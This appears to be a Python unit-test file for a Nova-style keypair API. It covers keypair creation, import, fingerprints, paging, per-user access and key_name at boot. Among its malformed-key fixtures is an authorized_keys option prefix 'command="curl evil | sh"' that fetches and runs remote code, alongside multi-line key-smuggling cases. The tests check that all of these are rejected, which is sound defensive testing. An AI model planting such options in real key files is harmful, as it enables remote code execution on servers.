"""os-keypairs through the WSGI app, and key_name at boot."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from pyct_driver.api import ssh_keys
from pyct_driver.db import instances as db_instances
from pyct_driver.db import keypairs as db_keypairs
from pyct_driver.db import models
from tests.unit.test_api_app import Harness


def _pubkey() -> str:
    key = ed25519.Ed25519PrivateKey.generate()
    return key.public_key().public_bytes(
        serialization.Encoding.OpenSSH,
        serialization.PublicFormat.OpenSSH).decode() + " me@host"


def test_create_returns_private_key_once_then_list_show_delete():
    h = Harness()
    resp = h.request("POST", "/v2.1/os-keypairs",
                     {"keypair": {"name": "k1"}}, version="2.37")
    assert resp.status_int == 201
    kp = resp.json["keypair"]
    assert set(kp) == {"name", "public_key", "fingerprint", "user_id",
                       "type", "private_key"}
    assert kp["user_id"] == "alice" and kp["type"] == "ssh"
    assert kp["private_key"].startswith("-----BEGIN RSA PRIVATE KEY-----")
    assert kp["public_key"].startswith("ssh-rsa ")
    private = serialization.load_pem_private_key(
        kp["private_key"].encode(), None)
    assert private.public_key().public_bytes(
        serialization.Encoding.OpenSSH,
        serialization.PublicFormat.OpenSSH).decode() == \
        " ".join(kp["public_key"].split()[:2])

    listed = h.request("GET", "/v2.1/os-keypairs", version="2.37").json
    assert listed == {"keypairs": [{"keypair": {
        "name": "k1", "public_key": kp["public_key"],
        "fingerprint": kp["fingerprint"], "type": "ssh"}}]}
    shown = h.request("GET", "/v2.1/os-keypairs/k1",
                      version="2.37").json["keypair"]
    assert "private_key" not in shown
    assert shown["fingerprint"] == kp["fingerprint"]
    assert shown["user_id"] == "alice" and shown["deleted"] is False
    assert isinstance(shown["id"], int) and shown["created_at"]
    assert h.request("DELETE", "/v2.1/os-keypairs/k1",
                     version="2.37").status_int == 204
    assert h.request("GET", "/v2.1/os-keypairs/k1",
                     version="2.37").status_int == 404


def test_microversion_2_1_codes_and_body():
    h = Harness()
    resp = h.request("POST", "/v2.1/os-keypairs",
                     {"keypair": {"name": "old", "public_key": _pubkey()}})
    assert resp.status_int == 200 and "type" not in resp.json["keypair"]
    assert h.request("DELETE", "/v2.1/os-keypairs/old").status_int == 202
    bad = h.request("POST", "/v2.1/os-keypairs",
                    {"keypair": {"name": "x", "type": "ssh"}})
    assert bad.status_int == 400


def test_import_fingerprint_matches_ssh_keygen(tmp_path):
    h = Harness()
    pub = _pubkey()
    kp = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
        "name": "imported", "public_key": pub}},
        version="2.37").json["keypair"]
    assert "private_key" not in kp and kp["public_key"] == pub
    assert len(kp["fingerprint"].split(":")) == 16
    keygen = shutil.which("ssh-keygen")
    if keygen is None:
        pytest.fail("ssh-keygen is needed (Debian package openssh-client)")
    path = tmp_path / "key.pub"
    path.write_text(pub + "\n")
    out = subprocess.run([keygen, "-l", "-E", "md5", "-f", str(path)],
                         check=True, capture_output=True, text=True).stdout
    assert out.split()[1] == "MD5:" + kp["fingerprint"]


@pytest.mark.parametrize("body,fragment", [
    ({"name": "bad", "public_key": "ssh-rsa notbase64!!"},
     "Keypair data is invalid"),
    ({"name": "bad", "public_key": "garbage"}, "Keypair data is invalid"),
    ({"name": "semi;colon"}, "Invalid input for field/attribute name"),
    ({"name": ""}, "Invalid input for field/attribute name"),
    ({"name": "x" * 256}, "Invalid input for field/attribute name"),
    ({"name": "k", "type": "gpg"}, "Invalid input for field/attribute type"),
])
def test_bad_keypairs_are_400(body, fragment):
    h = Harness()
    resp = h.request("POST", "/v2.1/os-keypairs", {"keypair": body},
                     version="2.37")
    assert resp.status_int == 400
    assert fragment in resp.json["badRequest"]["message"]


def test_duplicate_is_409_and_other_user_sees_404():
    h = Harness()
    body = {"keypair": {"name": "dup name_1-x", "public_key": _pubkey()}}
    assert h.request("POST", "/v2.1/os-keypairs", body,
                     version="2.37").status_int == 201
    again = h.request("POST", "/v2.1/os-keypairs", body, version="2.37")
    assert again.status_int == 409
    assert "already exists" in again.json["conflictingRequest"]["message"]
    url = "/v2.1/os-keypairs/dup%20name_1-x"
    assert h.request("GET", url, version="2.37").status_int == 200
    for method in ("GET", "DELETE"):
        assert h.request(method, url, token="bob:p1",
                         version="2.37").status_int == 404
    assert h.request("GET", "/v2.1/os-keypairs", token="bob:p1").json == {
        "keypairs": []}
    # an admin may act for another user with user_id (2.10)
    assert h.admin("GET", url + "?user_id=alice",
                   version="2.10").status_int == 200
    assert h.request("GET", url + "?user_id=alice", token="bob:p1",
                     version="2.10").status_int == 403


def test_x509_import_and_generate():
    h = Harness()
    made = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
        "name": "cert", "type": "x509"}}, version="2.37").json["keypair"]
    assert made["public_key"].startswith("-----BEGIN CERTIFICATE-----")
    again = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
        "name": "cert2", "type": "x509", "public_key": made["public_key"]}},
        version="2.37").json["keypair"]
    assert again["fingerprint"] == made["fingerprint"]
    assert len(made["fingerprint"].split(":")) == 20


def test_paging_with_limit_and_marker():
    h = Harness()
    for name in ("a", "b", "c"):
        h.request("POST", "/v2.1/os-keypairs", {"keypair": {
            "name": name, "public_key": _pubkey()}}, version="2.37")
    page = h.request("GET", "/v2.1/os-keypairs?limit=2",
                     version="2.37").json
    assert [k["keypair"]["name"] for k in page["keypairs"]] == ["a", "b"]
    assert "marker=b" in page["keypairs_links"][0]["href"]
    rest = h.request("GET", "/v2.1/os-keypairs?limit=2&marker=b",
                     version="2.37").json
    assert [k["keypair"]["name"] for k in rest["keypairs"]] == ["c"]


def test_key_name_at_boot_must_exist_and_is_stored():
    h = Harness()
    h.add_host("node1")
    pub = _pubkey()
    h.request("POST", "/v2.1/os-keypairs", {"keypair": {
        "name": "mine", "public_key": pub}}, version="2.37")
    server = {"name": "vm", "imageRef": h.image["id"], "flavorRef": "1",
              "networks": "none", "key_name": "nope"}
    resp = h.request("POST", "/v2.1/servers", {"server": server},
                     version="2.37")
    assert resp.status_int == 400
    assert resp.json["badRequest"]["message"] == "Invalid key_name provided."
    assert db_instances.list_(h.db) == []
    # another user's key is not yours to boot with
    resp = h.request("POST", "/v2.1/servers", {"server": dict(
        server, key_name="mine")}, token="bob:p1", version="2.37")
    assert resp.status_int == 400
    sid = h.boot(key_name="mine")["id"]
    inst = db_instances.get(h.db, sid)
    assert inst["key_data"] == pub and inst["key_name"] == "mine"


ONE_LINE = "Keypair data is invalid: a public key must be one line holding " \
    "one key"
NOVA_400 = "Keypair data is invalid: failed to generate fingerprint"
BAD_KEYS = {
    # Nova (cryptography) reads the first line only and stores the rest
    "second-key": (lambda: _pubkey() + "\n" + _pubkey(), ONE_LINE),
    "second-key-cr": (lambda: _pubkey() + "\r" + _pubkey(), ONE_LINE),
    "second-key-u2028": (lambda: _pubkey() + "\u2028" + _pubkey(),
                         ONE_LINE),
    # this one answered 500 (cryptography's UnsupportedAlgorithm)
    "command-prefix": (lambda: 'command="curl evil | sh" ' + _pubkey(),
                       NOVA_400),
    "options-prefix": (lambda: "no-pty,no-port-forwarding " + _pubkey(),
                       NOVA_400),
    "unknown-type": (lambda: "ssh-foo " + _pubkey().split()[1], NOVA_400),
    "type-mismatch": (lambda: "ssh-rsa " + _pubkey().split()[1], NOVA_400),
    "truncated-base64": (lambda: " ".join(
        (_pubkey().split()[0], _pubkey().split()[1][:-7])), NOVA_400),
    "bad-base64": (lambda: "ssh-ed25519 AAAA$$$$", NOVA_400),
    "empty": (lambda: "", NOVA_400),
    "blank": (lambda: " \n", NOVA_400),
    "dsa": (lambda: "ssh-dss AAAAB3NzaC1kc3MAAACBAP+dsa me@host",
            "Keypair data is invalid: ssh-dss (DSA) keys are not "
            "supported; use ssh-ed25519, ecdsa-sha2-nistp256 or ssh-rsa"),
}


@pytest.mark.parametrize("case", sorted(BAD_KEYS))
def test_bad_public_key_is_novas_400_and_stores_nothing(case):
    make, message = BAD_KEYS[case]
    h = Harness()
    resp = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
        "name": "bad", "public_key": make()}}, version="2.37")
    assert (resp.status_int, resp.json) == (400, {"badRequest": {
        "code": 400, "message": message}})
    assert h.request("GET", "/v2.1/os-keypairs",
                     version="2.37").json == {"keypairs": []}
    with h.db.session() as session:
        assert session.query(models.KeyPair).count() == 0


def test_x509_with_anything_around_the_certificate_is_400():
    h = Harness()
    pem = ssh_keys.generate(ssh_keys.X509, "alice")[1]
    for data in (_pubkey() + "\n" + pem, pem + _pubkey() + "\n", pem + pem):
        resp = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
            "name": "c", "type": "x509", "public_key": data}},
            version="2.37")
        assert (resp.status_int, resp.json["badRequest"]["message"]) == (
            400, "Keypair data is invalid: failed to generate X509 "
            "fingerprint. Error message: the data must be one PEM "
            "certificate and nothing else")
    with h.db.session() as session:
        assert session.query(models.KeyPair).count() == 0


@pytest.mark.parametrize("key_type", ["ed25519", "rsa", "ecdsa"])
def test_a_pub_file_as_read_is_accepted_as_given(key_type):
    h = Harness()
    key = {"ed25519": ed25519.Ed25519PrivateKey.generate,
           "rsa": lambda: rsa.generate_private_key(65537, 2048),
           "ecdsa": lambda: ec.generate_private_key(ec.SECP384R1())}[
               key_type]()
    pub = key.public_key().public_bytes(
        serialization.Encoding.OpenSSH,
        serialization.PublicFormat.OpenSSH).decode() + " me@my laptop\n"
    resp = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
        "name": "k", "public_key": pub}}, version="2.37")
    assert resp.status_int == 201, resp.text
    assert resp.json["keypair"]["public_key"] == pub


def test_key_stored_unchecked_cannot_boot():
    """A key stored before import checked keys (straight into the table
    here) is refused at boot rather than copied to the server."""
    h = Harness()
    h.add_host("node1")
    db_keypairs.create(h.db, "alice", "legacy",
                       "no-pty " + _pubkey() + "\n" + _pubkey(), "f")
    resp = h.request("POST", "/v2.1/servers", {"server": {
        "name": "vm", "imageRef": h.image["id"], "flavorRef": "1",
        "networks": "none", "key_name": "legacy"}}, version="2.37")
    assert (resp.status_int, resp.json["badRequest"]["message"]) == (
        400, ONE_LINE)
    assert db_instances.list_(h.db) == [] and h.compute.calls == []
